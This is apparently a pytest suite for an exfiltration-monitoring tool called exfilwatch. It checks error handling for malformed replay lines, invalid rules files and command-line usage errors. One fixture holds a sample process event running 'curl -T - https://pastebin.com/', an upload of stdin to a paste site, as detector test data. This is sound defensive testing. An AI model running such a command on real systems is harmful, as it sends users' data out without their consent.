"""Bad input gets one clear error and nothing else breaks: malformed and oversized replay lines
(reported with their line number, the rest still processed), rules files with wrong types or
unknown keys, and usage errors (exit 2, one line on stderr, nothing on stdout). No BPF here."""

import json
import subprocess

import pytest

from harness import paths
from harness.monitor import validate_ndjson
from harness.records import get, kind

EXEC_LINE = json.dumps({
    "@timestamp": "2026-11-29T02:49:11.123456789Z",
    "event": {"kind": "event", "action": "exec", "category": ["process"], "type": ["start"]},
    "process": {"pid": 4242, "entity_id": "b1946ac9-4242-1795920500000000000", "name": "curl",
                "executable": "/usr/bin/curl", "args": ["curl", "-T", "-", "https://pastebin.com/"],
                "args_count": 4, "command_line": "curl -T - https://pastebin.com/",
                "parent": {"pid": 4200, "entity_id": "b1946ac9-4200-1795920400000000000"},
                "user": {"id": "1000"}, "start": "2026-11-29T02:49:06.123456789Z"},
    "exfilwatch": {"process": {"args_truncated": False, "has_tty": False, "cgroup_id": 1}},
})


def exfilwatch(*args, input_bytes=None, timeout=60):
    return subprocess.run([str(paths.monitor_binary()), *args], input=input_bytes,
                          capture_output=True, timeout=timeout)


def stats_of(stdout):
    records = [json.loads(line) for line in stdout.splitlines() if line.strip()]
    metrics = [r for r in records if kind(r) == "metric"]
    assert metrics, f"no metric record in {stdout[-2000:]!r}"
    return get(metrics[-1], "exfilwatch.stats")


def test_replay_reports_malformed_and_huge_lines_and_goes_on(tmp_path):
    huge = '{"event":{"kind":"event","action":"exec"},"pad":"' + "x" * (1 << 20) + '"}'
    lines = [EXEC_LINE, "{not json", huge, '{"event":{"kind":"event","action":"exec"}}', "[1,2]",
             EXEC_LINE.replace("4242", "4243"), ""]
    source = tmp_path / "telemetry.ndjson"
    source.write_text("\n".join(lines) + "\n")
    out = tmp_path / "replay.ndjson"
    done = exfilwatch("replay", str(source), "--events", "exec", "--output", str(out))
    stderr = done.stderr.decode()
    assert done.returncode == 0, stderr
    errors = [line for line in stderr.splitlines() if line]
    # one line per bad line, each naming it; nothing else on stderr
    assert len(errors) == 4, stderr
    for number in (2, 3, 4, 5):
        assert any(f"line {number}:" in line for line in errors), (number, stderr)
    assert "longer than" in stderr or "too long" in stderr or "1048576" in stderr, stderr
    stats = stats_of(out.read_bytes())
    assert stats["replay.events"] == 2 and stats["replay.errors"] == 4, stats
    replayed = [json.loads(line) for line in out.read_text().splitlines()]
    pids = [get(r, "process.pid") for r in replayed if get(r, "event.action") == "exec"]
    assert pids == [4242, 4243], pids
    validate_ndjson(out)


def test_replay_from_stdin_with_a_huge_last_line_without_newline():
    data = (EXEC_LINE + "\n" + "y" * (3 << 20)).encode()
    done = exfilwatch("replay", "-", "--events", "exec", input_bytes=data)
    assert done.returncode == 0, done.stderr
    assert b"line 2:" in done.stderr, done.stderr
    assert stats_of(done.stdout)["replay.events"] == 1


# (name, change to the built-in rules, what the error must say)
RULE_ERRORS = [
    ("wrong_type", lambda t: t.replace("alert_threshold: 60", "alert_threshold: lots", 1), "alert_threshold"),
    ("unknown_key", lambda t: t.replace("version: 1\n", "version: 1\ncolour: blue\n", 1), "unknown key 'colour'"),
    ("unknown_nested_key", lambda t: t.replace("  realert_step:", "  realert_stepp:", 1), "realert_stepp"),
    ("not_yaml", lambda t: t + "\nextra: [unclosed\n", ""),
    ("not_a_map", lambda t: "- just\n- a list\n", ""),
]


def builtin_rules():
    done = exfilwatch("rules", "dump")
    assert done.returncode == 0 and b"version: 1" in done.stdout
    return done.stdout.decode()


@pytest.mark.parametrize("name,change,message", RULE_ERRORS, ids=[r[0] for r in RULE_ERRORS])
def test_rules_errors_name_file_line_and_column(tmp_path, name, change, message):
    rules = tmp_path / f"{name}.yaml"
    text = builtin_rules()
    assert change(text) != text
    rules.write_text(change(text))
    for args in (["rules", "check", str(rules)], ["replay", "-", "--rules", str(rules)],
                 ["run", "--rules", str(rules), "--duration", "1"]):
        done = exfilwatch(*args, input_bytes=b"")
        stderr = done.stderr.decode()
        assert done.returncode == 1, (args, done.returncode, stderr)
        assert done.stdout == b"", (args, done.stdout[:500])
        assert len(stderr.strip().splitlines()) == 1, (args, stderr)
        assert f"{rules}:" in stderr and message in stderr, (args, stderr)
        # file:line:column
        after = stderr.split(f"{rules}:", 1)[1]
        line, column = after.split(":")[:2]
        assert line.strip().isdigit() and column.strip().isdigit(), (args, stderr)


USAGE_ERRORS = [
    ["run", "--no-such-flag"],
    ["--no-such-flag"],
    ["replay", "--events", "all"],
    ["replay", "-", "--bogus"],
    ["run", "--stats-interval", "-1"],
    ["run", "--min-score", "101"],
    ["run", "--ring-buffer-size", "6000"],
    ["run", "--events", "exec", "extra-positional"],
    ["run", "--events", "exec,bogus"],
    ["replay", "-", "--events", "bogus"],
    ["rules"],
    ["rules", "check"],
    ["health"],
    ["nosuchcommand"],
]


@pytest.mark.parametrize("args", USAGE_ERRORS, ids=[" ".join(a) for a in USAGE_ERRORS])
def test_usage_errors_exit_2_with_one_line(args):
    done = exfilwatch(*args, input_bytes=b"")
    stderr = done.stderr.decode()
    assert done.returncode == 2, (done.returncode, stderr)
    assert done.stdout == b""
    assert len(stderr.splitlines()) == 1 and stderr.startswith("exfilwatch: "), stderr
    assert "--help" in stderr


def test_unknown_events_entry_is_a_clear_error():
    done = exfilwatch("replay", "-", "--events", "exec,bogus", input_bytes=b"")
    stderr = done.stderr.decode()
    assert done.returncode == 2 and "unknown kind 'bogus'" in stderr, (done.returncode, stderr)
    assert len(stderr.splitlines()) == 1, stderr
